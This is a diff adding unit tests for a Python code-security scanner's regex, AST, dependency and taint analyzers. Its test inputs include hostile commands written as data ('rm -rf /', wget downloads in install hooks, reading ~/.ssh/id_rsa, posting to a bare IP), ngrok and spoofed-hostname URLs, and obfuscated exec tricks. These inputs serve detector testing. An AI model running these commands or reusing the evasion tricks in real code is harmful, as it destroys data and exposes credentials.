@@ -13,8 +13,10 @@ import ast
 from pathlib import Path
 
 from src.analyzers.base import BaseAnalyzer
-from src.analyzers.regex_analyzer import RegexAnalyzer
+from src.analyzers.regex_analyzer import RegexAnalyzer, PythonStringSpans
 from src.analyzers.ast_analyzer import ASTAnalyzer, PythonASTVisitor
+from src.analyzers.dependency_analyzer import DependencyAnalyzer, KNOWN_VULNERABILITIES
+from src.analyzers.taint_analyzer import TaintAnalyzer
 from src.types import Severity, AnalysisMode, SecurityIssue
 
 
@@ -238,6 +240,184 @@ Example:
         # Should filter out examples
         eval_issues = [i for i in issues if 'eval' in i.description.lower()]
         assert len(eval_issues) == 0
+    
+    @pytest.mark.unit
+    def test_skips_matches_in_python_strings(self, mode_standard):
+        """Test that matches inside Python string literals are skipped."""
+        analyzer = RegexAnalyzer(mode_standard)
+        content = 'HELP = """Never call __import__(name) here."""\nmodule = __import__(name)\n'
+        
+        issues = analyzer.analyze(Path("module.py"), content)
+        
+        import_lines = [i.line for i in issues if i.category == 'dynamic_import']
+        assert import_lines == [2]
+    
+    @pytest.mark.unit
+    def test_reports_quoted_payloads_in_fast_mode(self, mode_fast):
+        """Test that high-risk commands passed as Python string literals are reported."""
+        analyzer = RegexAnalyzer(mode_fast)
+        content = 'import os\nos.system("rm -rf /tmp/x")\n'
+        
+        issues = analyzer.analyze(Path("tool.py"), content)
+        
+        assert ('file_deletion', 'rm -rf command', 2) in [
+            (i.category, i.description, i.line) for i in issues
+        ]
+
+    
+    @pytest.mark.unit
+    def test_skips_matches_in_quoted_strings(self, mode_standard):
+        """Test quote tracking on the match line for non-Python files."""
+        analyzer = RegexAnalyzer(mode_standard)
+        content = (
+            'log("never call __import__(name) here");\n'
+            'log(\'it\\\'s fine\'); __import__(name);\n'
+            '__import__(name);\n'
+        )
+        
+        issues = analyzer.analyze(Path("app.js"), content)
+        
+        import_lines = [i.line for i in issues if i.category == 'dynamic_import']
+        assert import_lines == [2, 3]
+    
+    @pytest.mark.unit
+    def test_reports_quoted_payloads_in_non_python_files(self, mode_standard):
+        """Test that quoted commands in scripts, configs and docs are reported."""
+        analyzer = RegexAnalyzer(mode_standard)
+        cases = [
+            ("ci.yaml", 'steps:\n  - run: "rm -rf /"\n', ('file_deletion', 2)),
+            ("install.sh", 'bash -c "rm -rf /tmp/x"\n', ('file_deletion', 1)),
+            ("install.sh", "bash -c 'wget http://x.io/p'\n", ('data_download', 1)),
+            ("hooks.json", '{"post": "wget http://x.io/p"}\n', ('data_download', 1)),
+            ("run.js", 'exec("bash -c \'rm -rf /tmp/x\'");\n', ('file_deletion', 1)),
+            ("setup.md", 'Run `bash -c "rm -rf ~/.cache"` first.\n', ('file_deletion', 1)),
+        ]
+        
+        for name, content, expected in cases:
+            issues = analyzer.analyze(Path(name), content)
+            assert expected in [(i.category, i.line) for i in issues], name
+    
+    @pytest.mark.unit
+    def test_documentation_code_blocks(self, mode_standard):
+        """Test that code inside documentation fences is still checked."""
+        analyzer = RegexAnalyzer(mode_standard)
+        content = 'Setup:\n```bash\nrm -rf /\necho "`cat ~/.ssh/id_rsa`"\n```\n'
+
+        issues = analyzer.analyze(Path("README.md"), content)
+
+        # The quoted reference is skipped, the bare command is not
+        assert [(i.category, i.line) for i in issues] == [('file_deletion', 3)]
+    
+    @pytest.mark.unit
+    def test_snippet_stays_on_match_line(self, mode_standard):
+        """Test that snippets are cut from the matched line only."""
+        analyzer = RegexAnalyzer(mode_standard)
+        content = 'x = 1\neval(user_input)\ny = 2\n' + 'z = 3;' * 20 + ' eval(data)\n'
+        
+        issues = analyzer.analyze(Path("script.sh"), content)
+        
+        snippets = [i.snippet for i in issues if i.category == 'command_injection']
+        assert snippets[0] == 'eval(user_input)'
+        assert snippets[1].endswith('eval(data)') and 'y = 2' not in snippets[1]
+    
+    @pytest.mark.unit
+    def test_rules_without_their_literal_prefix_are_skipped(self, mode_standard):
+        """Test literal prefix gating keeps case-insensitive and non-ASCII matches."""
+        from src.analyzers.regex_analyzer import _literal_prefix
+
+        assert _literal_prefix(r"requests\.(post|put)\s*\(") == "requests."
+        assert _literal_prefix(r"rm\s+-rf") == "rm"
+        assert _literal_prefix(r"MEMORY\.md|SOUL\.md") == ""
+        assert _literal_prefix(r"[a-z]+") == ""
+
+        analyzer = RegexAnalyzer(mode_standard)
+        for content in ('EVAL(user_input)\n', 'evɑl = 1\nEVAL(user_input)\n'):
+            issues = analyzer.analyze(Path("run.sh"), content)
+            assert [i.category for i in issues] == ['command_injection']
+
+    @pytest.mark.unit
+    def test_suspicious_urls_gated_on_host_keyword(self, mode_standard):
+        """Test keyword gating of suspicious URL rules keeps case-folded matches."""
+        from src.analyzers.regex_analyzer import _required_literal
+
+        assert _required_literal(r"https?://[^/\s]*localhost\.run") == "localhost.run"
+        assert _required_literal(r"http://[^/\s]*\d+\.\d+") == "http://"
+        assert _required_literal(r"(abc)|d") == ""
+
+        analyzer = RegexAnalyzer(mode_standard)
+        for content in ('url = "HTTPS://NGROK.io/x"\n', 'é\nurl = "https://ngroK.io/x"\n'):
+            issues = analyzer.analyze(Path("SKILL.md"), content)
+            assert [i.description for i in issues] == ['Ngrok tunnel']
+
+    @pytest.mark.unit
+    def test_issue_strings_are_shared(self, mode_standard):
+        """Test that findings of one file share interned name strings."""
+        analyzer = RegexAnalyzer(mode_standard)
+        content = 'eval(a)\nexec(b)\n'
+        
+        issues = analyzer.analyze(Path("run.sh"), content)
+        
+        assert len(issues) == 2
+        assert all(i.file is issues[0].file for i in issues)
+
+
+class TestPythonStringSpans:
+    """Tests for tokenizer-based string literal detection."""
+    
+    @pytest.mark.unit
+    def test_classifies_positions(self):
+        """Test positions inside and outside of single and triple-quoted strings."""
+        from src.utils.line_index import LineIndex
+        content = 'a = "x \\" y"\nb = \'\'\'\nz\n\'\'\' + c\n'
+        spans = PythonStringSpans(content, LineIndex(content))
+        
+        assert not spans.contains(content.index("a"))
+        assert spans.contains(content.index("y"))
+        assert spans.contains(content.index("z"))
+        assert not spans.contains(content.index("c"))
+    
+    @pytest.mark.unit
+    def test_tolerates_tokenize_errors(self):
+        """Test that untokenizable source keeps the spans found so far."""
+        from src.utils.line_index import LineIndex
+        content = 'a = "ok"\nb = """unterminated\n'
+        spans = PythonStringSpans(content, LineIndex(content))
+        
+        assert spans.contains(content.index("ok"))
+        assert not spans.contains(content.index("b"))
+
+    @pytest.mark.unit
+    def test_tokenizes_only_up_to_queried_position(self):
+        """Test that lazy tokenizing classifies positions in any query order."""
+        from src.utils.line_index import LineIndex
+        content = 'a = "one"\nb = f"two {c!r}"\nd = 1\ne = """three\n"""\n' + 'x = 1\n' * 50
+        positions = [content.index(text) for text in ("one", "two", "c!r", "d", "three", "x")]
+        expected = [True, True, True, False, True, False]
+
+        spans = PythonStringSpans(content, LineIndex(content))
+        assert spans.contains(positions[0])
+        assert not spans._exhausted
+
+        for order in (positions, positions[::-1]):
+            spans = PythonStringSpans(content, LineIndex(content))
+            assert [spans.contains(p) for p in order] == [
+                expected[positions.index(p)] for p in order
+            ]
+
+
+class TestRegexAnalyzerIteration:
+    """Tests for incremental issue reporting."""
+    
+    @pytest.mark.unit
+    def test_analyze_iter_matches_analyze(self, mode_deep):
+        """Test that analyze_iter yields the same issues in the same order."""
+        analyzer = RegexAnalyzer(mode_deep)
+        content = 'import subprocess\nos.system("rm -rf /tmp/x")\nrequests.post("http://1.2.3.4/up")\n'
+        
+        streamed = list(analyzer.analyze_iter(Path("run.sh"), content))
+        
+        assert streamed
+        assert streamed == analyzer.analyze(Path("run.sh"), content)
 
 
 class TestRegexAnalyzerSafeServices:
@@ -255,6 +435,34 @@ class TestRegexAnalyzerSafeServices:
         suspicious = [i for i in issues if i.category == 'suspicious_url']
         assert len(suspicious) == 0
 
+    @pytest.mark.unit
+    def test_safe_services_match_whole_hostname(self, mode_standard):
+        """Test that only safe hosts and their subdomains are skipped."""
+        analyzer = RegexAnalyzer(mode_standard)
+        content = (
+            'a = "https://raw.githubusercontent.com/org/repo/main/x.sh"\n'
+            'b = "https://cdn.xiaohongshu.com.githubusercontent.io/x"\n'
+            'c = "https://api.github.com.ngrok.io/x"\n'
+            'd = "https://api.github.com@evil.ngrok.io/x"\n'
+            'e = "https://evil.ngrok.io/?next=api.github.com"\n'
+        )
+
+        issues = analyzer.analyze(Path("test.py"), content)
+
+        suspicious = [i.line for i in issues if i.category == 'suspicious_url']
+        assert suspicious == [2, 3, 4, 5]
+
+    @pytest.mark.unit
+    def test_testing_utility_files_skip_rule_matching(self, mode_deep, monkeypatch):
+        """Test that testing utilities only report suspicious URLs, without tokenizing."""
+        analyzer = RegexAnalyzer(mode_deep)
+        content = 'import subprocess\nsubprocess.run(cmd, shell=True)\neval(x)\nu = "https://x.ngrok.io"\n'
+        monkeypatch.setattr(PythonStringSpans, "contains", lambda self, position: pytest.fail())
+
+        issues = analyzer.analyze(Path("conftest.py"), content)
+
+        assert [i.category for i in issues] == ['suspicious_url']
+
 
 # =============================================================================
 # ASTAnalyzer Tests
@@ -327,6 +535,18 @@ exec(code)
         # Should not flag eval with literal
         high_issues = [i for i in issues if i.level == Severity.HIGH]
         assert not any('eval' in i.description for i in high_issues)
+    
+    @pytest.mark.unit
+    def test_detects_exec_of_split_string(self, mode_standard):
+        """Test that concatenated string pieces are not folded into a literal."""
+        analyzer = ASTAnalyzer(mode_standard)
+        content = 'exec("imp" + "ort os; os.sys" + "tem(\'id\')")\n'
+        
+        issues = analyzer.analyze(Path("test.py"), content)
+        
+        assert [(i.line, i.description) for i in issues if i.level == Severity.HIGH] == [
+            (1, "exec() execution with variable")
+        ]
 
 
 class TestASTAnalyzerSubprocess:
@@ -435,6 +655,157 @@ class TestASTAnalyzerErrorHandling:
         assert issues == []
 
 
+class TestASTAnalyzerPrescan:
+    """Tests for the trigger-literal prescan."""
+    
+    @pytest.mark.unit
+    def test_skips_without_trigger_literals(self, mode_standard):
+        """Test that code without risky identifiers can be skipped."""
+        analyzer = ASTAnalyzer(mode_standard)
+        assert analyzer.can_skip("def add(a, b):\n    return a + b\n")
+    
+    @pytest.mark.unit
+    def test_runs_with_trigger_literal(self, mode_standard):
+        """Test that code mentioning a dangerous call is analyzed."""
+        analyzer = ASTAnalyzer(mode_standard)
+        assert not analyzer.can_skip("result = eval(expr)\n")
+    
+    @pytest.mark.unit
+    def test_runs_on_non_ascii_identifiers(self, mode_standard):
+        """Test that NFKC-equivalent spellings of triggers are not skipped."""
+        analyzer = ASTAnalyzer(mode_standard)
+        content = "result = \uff45\uff56\uff41\uff4c(expr)\n"  # fullwidth 'eval'
+        
+        assert not analyzer.can_skip(content)
+        issues = analyzer.analyze(Path("test.py"), content)
+        assert any(i.category == 'command_injection' for i in issues)
+
+
+# =============================================================================
+# DependencyAnalyzer Tests
+# =============================================================================
+
+class TestDependencyAnalyzerImports:
+    """Tests for import extraction in DependencyAnalyzer."""
+    
+    @pytest.mark.unit
+    def test_extracts_nested_imports(self):
+        """Test that conditional and function-level imports are found."""
+        analyzer = DependencyAnalyzer()
+        tree = ast.parse(
+            "import os\n"
+            "try:\n"
+            "    import requests\n"
+            "except ImportError:\n"
+            "    from urllib3 import util\n"
+            "def f():\n"
+            "    import flask.app\n"
+        )
+        
+        names = [(p.name, p.line) for p in analyzer._extract_imports(tree)]
+        assert names == [("os", 1), ("requests", 3), ("flask", 7), ("urllib3", 5)]
+    
+    @pytest.mark.unit
+    def test_ignores_relative_imports(self):
+        """Test that module-less relative imports are skipped."""
+        analyzer = DependencyAnalyzer()
+        tree = ast.parse("from . import sibling\n")
+        
+        assert analyzer._extract_imports(tree) == []
+
+
+class TestDependencyAnalyzerVersions:
+    """Tests for requirement-based vulnerability filtering."""
+    
+    @pytest.mark.unit
+    def test_pinned_safe_version_is_not_reported(self, temp_dir):
+        """Test that a requirement at or above the fixed version suppresses the finding."""
+        (temp_dir / "requirements.txt").write_text("requests>=2.25.0\n")
+        target = temp_dir / "main.py"
+        
+        issues = DependencyAnalyzer().analyze(target, "import requests\n")
+        assert issues == []
+    
+    @pytest.mark.unit
+    def test_unpinned_package_is_reported(self, temp_dir):
+        """Test that a package without a safe requirement is reported."""
+        (temp_dir / "requirements.txt").write_text("requests\n")
+        target = temp_dir / "main.py"
+        
+        issues = DependencyAnalyzer().analyze(target, "import requests\n")
+        assert [i.category for i in issues] == ["vulnerable_dependency"]
+    
+    @pytest.mark.unit
+    def test_known_vulnerabilities_are_not_modified(self, temp_dir):
+        """Test that parsed fixed versions are not written into the public table."""
+        (temp_dir / "requirements.txt").write_text("django>=4.0.4\n")
+        target = temp_dir / "main.py"
+        
+        issues = DependencyAnalyzer().analyze(target, "import django\n")
+        
+        assert issues == []
+        for vulns in KNOWN_VULNERABILITIES.values():
+            for vuln in vulns:
+                assert set(vuln) == {"id", "affected_versions", "severity", "description"}
+
+
+# =============================================================================
+# TaintAnalyzer Tests
+# =============================================================================
+
+class TestTaintAnalyzerPropagation:
+    """Tests for taint propagation into sinks."""
+    
+    @pytest.mark.unit
+    def test_detects_taint_through_fstring(self, mode_deep):
+        """Test that tainted values inside f-strings reach the sink."""
+        analyzer = TaintAnalyzer(mode_deep)
+        content = 'cmd = input()\nos.system(f"run {cmd}")\nos.system("ls")\n'
+        
+        issues = analyzer.analyze(Path("tool.py"), content)
+        
+        assert [(i.category, i.line) for i in issues] == [("tainted_command_execution", 2)]
+    
+    @pytest.mark.unit
+    def test_matches_names_exactly(self, mode_deep):
+        """Test that sources and sinks are matched by full dotted name."""
+        analyzer = TaintAnalyzer(mode_deep)
+        content = (
+            'code = os.environ.get("CODE")\n'
+            'exec(code)\n'
+            're.compile(code)\n'
+            'model.eval(code)\n'
+        )
+        
+        issues = analyzer.analyze(Path("tool.py"), content)
+        
+        assert [(i.description, i.line) for i in issues] == [
+            ("exec() called with tainted user input", 2)
+        ]
+    
+    @pytest.mark.unit
+    def test_detects_sink_before_later_assignment(self, mode_deep):
+        """Test that a function body sees a tainted global assigned after it."""
+        analyzer = TaintAnalyzer(mode_deep)
+        content = 'import os\n\ndef run():\n    os.system(cmd)\n\ncmd = input()\nrun()\n'
+        
+        issues = analyzer.analyze(Path("tool.py"), content)
+        
+        assert [(i.description, i.line) for i in issues] == [
+            ("os.system() called with tainted user input", 4)
+        ]
+    
+    @pytest.mark.unit
+    def test_long_concatenation_chain(self, mode_deep):
+        """Test that deeply nested concatenations do not exhaust the stack."""
+        analyzer = TaintAnalyzer(mode_deep)
+        expr = ast.Name(id="cmd", ctx=ast.Load())
+        for _ in range(5000):
+            expr = ast.BinOp(left=ast.Constant(value="x"), op=ast.Add(), right=expr)
+        
+        assert analyzer._is_tainted(expr, {"cmd": 1})
+
+
 # =============================================================================
 # PythonASTVisitor Tests
 # =============================================================================
@@ -462,6 +833,23 @@ class TestPythonASTVisitor:
         # First print is on line 1
         line = visitor._get_line(tree.body[0])
         assert line == 1
+    
+    @pytest.mark.unit
+    def test_iter_visit_streams_issues(self, mode_standard):
+        """Test that iter_visit yields visit()'s issues without keeping them."""
+        content = 'import os\neval(user_input)\nos.system(cmd)\nexec(code)\n'
+        tree = ast.parse(content)
+        
+        collected = PythonASTVisitor(content, "test.py")
+        collected.visit(tree)
+        streaming = PythonASTVisitor(content, "test.py")
+        stream = streaming.iter_visit(tree)
+        first = next(stream)
+        
+        assert len(collected.issues) == 3
+        assert [first, *stream] == collected.issues
+        assert streaming.issues == []
+        assert ASTAnalyzer(mode_standard).analyze(Path("test.py"), content) == collected.issues
 
 
 # =============================================================================